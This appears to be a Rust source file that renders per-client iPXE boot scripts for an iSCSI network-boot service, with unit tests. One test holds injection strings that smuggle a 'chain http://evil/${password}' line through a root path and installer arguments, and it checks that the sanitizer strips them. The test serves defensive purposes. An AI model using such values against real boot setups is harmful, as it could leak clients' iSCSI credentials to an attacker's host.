//! Rendering one client's iPXE script. The script carries no secret: the client's own disk is
//! booted with the CHAP credentials iPXE already holds from its DHCP reply (`${username}`,
//! `${password}` are iPXE settings expanded on the client; they serve its other images'
//! targets too), and only this client's data goes in.

use std::fmt::Write as _;

/// What the client boots when the menu times out (or when there is no menu).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BootChoice {
    /// This client's own iSCSI disk (`sanboot`, exactly as the DHCP root-path boot today).
    Disk,
    /// memtest86+ from the boot-file directory.
    Memtest,
    /// The local disk: BIOS `sanboot --drive 0x80`, UEFI `exit` back to the firmware.
    Local,
    /// The installer with this name (one of [`ClientScript::installers`]).
    Install(String),
    /// Another image this client may boot (one of [`ClientScript::images`]).
    Image(String),
}

/// Another image as the script boots it: `sanboot` of its own target (the client's CHAP, which
/// iPXE holds from DHCP, serves it too).
#[derive(Debug, Clone)]
pub struct ScriptImage {
    /// Its name (`image:NAME`); the menu item is `image-NAME`.
    pub name: String,
    /// `iscsi:<server>::<port>:<lun>:<iqn>` of the client's target for it.
    pub root_path: String,
}

/// One installer as the script boots it.
#[derive(Debug, Clone)]
pub struct ScriptInstaller {
    /// Its name (`install:NAME`); the menu item is `install-NAME`.
    pub name: String,
    /// Menu text.
    pub label: String,
    /// URLs of its kernel and initrd on the boot routes.
    pub kernel_url: String,
    pub initrd_url: String,
    /// Kernel command line: the configured one plus the answer-file arguments.
    pub args: String,
}

/// Everything the script needs about one client. Built by the service from that client's
/// registry entry only.
#[derive(Debug, Clone)]
pub struct ClientScript<'a> {
    /// `iscsi:<server>::<port>:<lun>:<iqn>` of this client's target.
    pub root_path: &'a str,
    /// Base URL of the boot files, e.g. `http://10.0.0.1:8080/files`.
    pub files_url: &'a str,
    /// The default entry.
    pub default: BootChoice,
    /// Seconds the menu waits; 0 boots the default without showing a menu.
    pub menu_timeout: u32,
    /// The installers the menu offers (an `Install` default names one of them).
    pub installers: &'a [ScriptInstaller],
    /// The other images the menu offers (an `Image` default names one of them).
    pub images: &'a [ScriptImage],
}

/// The script label of a choice.
fn label(c: &BootChoice) -> String {
    match c {
        BootChoice::Disk => "disk".into(),
        BootChoice::Memtest => "memtest".into(),
        BootChoice::Local => "local".into(),
        BootChoice::Install(n) => format!("install-{}", clean(n)),
        BootChoice::Image(n) => format!("image-{}", clean(n)),
    }
}

/// memtest86+ prints on the first serial port too (and on the screen).
pub const MEMTEST_ARGS: &str = "console=ttyS0,115200";

/// Strips anything that could end an iPXE line or start a setting expansion from a value we
/// put into the script (values come from our own config, this is belt and braces).
fn clean(s: &str) -> String {
    s.chars()
        .filter(|c| !c.is_control() && *c != '$' && *c != '{' && *c != '}')
        .collect()
}

/// Renders the script.
pub fn render(c: &ClientScript<'_>) -> String {
    let root = clean(c.root_path);
    let files = clean(c.files_url);
    let mut s = String::from("#!ipxe\n");
    if c.menu_timeout > 0 {
        let _ = writeln!(s, "menu isboot");
        let _ = writeln!(s, "item disk My disk");
        for i in c.images {
            let _ = writeln!(
                s,
                "item {} Image {}",
                label(&BootChoice::Image(i.name.clone())),
                clean(&i.name)
            );
        }
        for i in c.installers {
            let _ = writeln!(
                s,
                "item {} {}",
                label(&BootChoice::Install(i.name.clone())),
                clean(&i.label)
            );
        }
        let _ = writeln!(s, "item memtest Memory test (memtest86+)");
        let _ = writeln!(s, "item local Local disk");
        let _ = writeln!(s, "item shell iPXE shell");
        let _ = writeln!(
            s,
            "choose --default {} --timeout {} target || goto {}",
            label(&c.default),
            u64::from(c.menu_timeout) * 1000,
            label(&c.default)
        );
        let _ = writeln!(s, "goto ${{target}}");
    } else {
        let _ = writeln!(s, "goto {}", label(&c.default));
    }
    let _ = writeln!(s, ":disk");
    let _ = writeln!(s, "sanboot {root} || goto failed");
    for i in c.images {
        let _ = writeln!(s, ":{}", label(&BootChoice::Image(i.name.clone())));
        let _ = writeln!(s, "sanboot {} || goto failed", clean(&i.root_path));
    }
    for i in c.installers {
        // The initrd's image name is its URL's last part ("initrd"): the EFI stub loads it by
        // that name, a BIOS bzImage gets every initrd anyway.
        let _ = writeln!(s, ":{}", label(&BootChoice::Install(i.name.clone())));
        let _ = writeln!(
            s,
            "kernel {} initrd=initrd {} || goto failed",
            clean(&i.kernel_url),
            clean(&i.args)
        );
        let _ = writeln!(s, "initrd {} || goto failed", clean(&i.initrd_url));
        let _ = writeln!(s, "boot || goto failed");
    }
    let _ = writeln!(s, ":memtest");
    let _ = writeln!(
        s,
        "iseq ${{platform}} efi && chain {files}/memtest/memtest86+x64.efi {MEMTEST_ARGS} || chain {files}/memtest/memtest86+x64.bin {MEMTEST_ARGS} || goto failed"
    );
    let _ = writeln!(s, ":local");
    let _ = writeln!(
        s,
        "iseq ${{platform}} efi && exit || sanboot --no-describe --drive 0x80 || goto failed"
    );
    let _ = writeln!(s, ":shell");
    let _ = writeln!(s, "shell");
    let _ = writeln!(s, ":failed");
    let _ = writeln!(s, "echo isboot: boot failed, dropping to the iPXE shell");
    let _ = writeln!(s, "shell");
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    fn client(default: BootChoice, menu_timeout: u32) -> ClientScript<'static> {
        ClientScript {
            root_path: "iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1",
            files_url: "http://10.0.0.1:8080/files",
            default,
            menu_timeout,
            installers: &[],
            images: &[],
        }
    }

    #[test]
    fn no_menu_boots_disk_directly() {
        let s = render(&client(BootChoice::Disk, 0));
        assert!(s.starts_with("#!ipxe\ngoto disk\n"), "{s}");
        assert!(!s.contains("menu isboot"));
        assert!(s.contains("sanboot iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1 ||"));
    }

    #[test]
    fn menu_with_timeout_and_default() {
        let s = render(&client(BootChoice::Memtest, 5));
        assert!(s.contains("menu isboot\n"));
        assert!(s.contains("choose --default memtest --timeout 5000 target || goto memtest\n"));
        assert!(s.contains("chain http://10.0.0.1:8080/files/memtest/memtest86+x64.efi"));
        assert!(s.contains(
            "chain http://10.0.0.1:8080/files/memtest/memtest86+x64.bin console=ttyS0,115200 ||"
        ));
        let s = render(&client(BootChoice::Local, 0));
        assert!(s.starts_with("#!ipxe\ngoto local\n"));
        assert!(s.contains("iseq ${platform} efi && exit || sanboot --no-describe --drive 0x80"));
    }

    fn debian() -> Vec<ScriptInstaller> {
        vec![ScriptInstaller {
            name: "debian12".into(),
            label: "Install Debian 12".into(),
            kernel_url: "http://10.0.0.1:8080/install/debian12/kernel".into(),
            initrd_url: "http://10.0.0.1:8080/install/debian12/initrd".into(),
            args: "console=ttyS0,115200 auto=true url=http://10.0.0.1:8080/answer/m/debian12/preseed.cfg".into(),
        }]
    }

    #[test]
    fn installers_as_menu_entries_or_the_default() {
        let inst = debian();
        let mut c = client(BootChoice::Disk, 5);
        c.installers = &inst;
        let s = render(&c);
        assert!(
            s.contains("item install-debian12 Install Debian 12\n"),
            "{s}"
        );
        assert!(s.contains("choose --default disk --timeout 5000"), "{s}");
        assert!(s.contains(
            ":install-debian12\nkernel http://10.0.0.1:8080/install/debian12/kernel initrd=initrd console=ttyS0,115200 auto=true url=http://10.0.0.1:8080/answer/m/debian12/preseed.cfg || goto failed\ninitrd http://10.0.0.1:8080/install/debian12/initrd || goto failed\nboot || goto failed\n"
        ), "{s}");
        c.default = BootChoice::Install("debian12".into());
        c.menu_timeout = 0;
        let s = render(&c);
        assert!(s.starts_with("#!ipxe\ngoto install-debian12\n"), "{s}");
        assert!(!s.contains("menu isboot"), "{s}");
    }

    fn deb2() -> Vec<ScriptImage> {
        vec![ScriptImage {
            name: "deb2".into(),
            root_path: "iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1:image:deb2".into(),
        }]
    }

    #[test]
    fn other_images_as_menu_entries_or_the_default() {
        let imgs = deb2();
        let mut c = client(BootChoice::Disk, 5);
        c.images = &imgs;
        let s = render(&c);
        assert!(
            s.contains("item disk My disk\nitem image-deb2 Image deb2\n"),
            "{s}"
        );
        assert!(s.contains("choose --default disk --timeout 5000"), "{s}");
        assert!(
            s.contains(
                ":image-deb2\nsanboot iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1:image:deb2 || goto failed\n"
            ),
            "{s}"
        );
        // The client's own disk is still there, and still its own target.
        assert!(
            s.contains(
                ":disk\nsanboot iscsi:10.0.0.1::::iqn.2026-01.org.isboot:pc1 || goto failed\n"
            ),
            "{s}"
        );
        c.default = BootChoice::Image("deb2".into());
        let s = render(&c);
        assert!(
            s.contains("choose --default image-deb2 --timeout 5000 target || goto image-deb2\n"),
            "{s}"
        );
        c.menu_timeout = 0;
        let s = render(&c);
        assert!(s.starts_with("#!ipxe\ngoto image-deb2\n"), "{s}");
        assert!(!s.contains("menu isboot"), "{s}");
        assert!(
            !s.contains("${password}") && !s.contains("${username}"),
            "{s}"
        );
        // Without images: no image entry, no image label.
        let s = render(&client(BootChoice::Disk, 5));
        assert!(!s.contains("image-"), "{s}");
    }

    #[test]
    fn no_secret_and_no_injection() {
        let mut c = client(BootChoice::Disk, 0);
        c.root_path = "iscsi:10.0.0.1::::iqn.x:pc1\nchain http://evil/${password}";
        let s = render(&c);
        assert!(!s.contains("${password}"));
        assert!(!s.contains("${username}"));
        assert!(
            !s.lines().any(|l| l.starts_with("chain http://evil")),
            "{s}"
        );
        let mut inst = debian();
        inst[0].label = "x\nshell".into();
        inst[0].args = "a ${password}\nchain http://evil".into();
        c.installers = &inst;
        c.menu_timeout = 5;
        let s = render(&c);
        assert!(!s.contains("${password}"), "{s}");
        assert!(s.contains("item install-debian12 xshell\n"), "{s}");
        assert!(
            !s.lines().any(|l| l.starts_with("chain http://evil")),
            "{s}"
        );
    }
}
